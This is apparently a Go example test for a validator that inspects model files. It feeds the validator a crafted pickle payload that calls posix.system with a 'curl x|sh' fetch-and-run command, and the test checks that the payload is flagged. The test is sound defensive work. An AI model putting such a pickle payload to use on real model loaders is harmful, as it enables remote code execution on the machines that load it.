package modelfile_test

import (
	"bytes"
	"fmt"
	"log"

	"github.com/surefoot-ml/surefoot/validate/modelfile"
)

func ExampleInspect() {
	download := []byte("\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x0acurl x|sh \x85R.")
	report, err := modelfile.Inspect(bytes.NewReader(download), int64(len(download)), modelfile.Options{})
	if err != nil {
		log.Fatal(err) // it cannot be read
	}
	fmt.Println(report.Format, report.Imports)
	fmt.Println(report.Err())
	// Output:
	// pickle [posix.system]
	// validate: pickle at 18 is posix.system, must be an import that only builds data (see DefaultAllow)
}
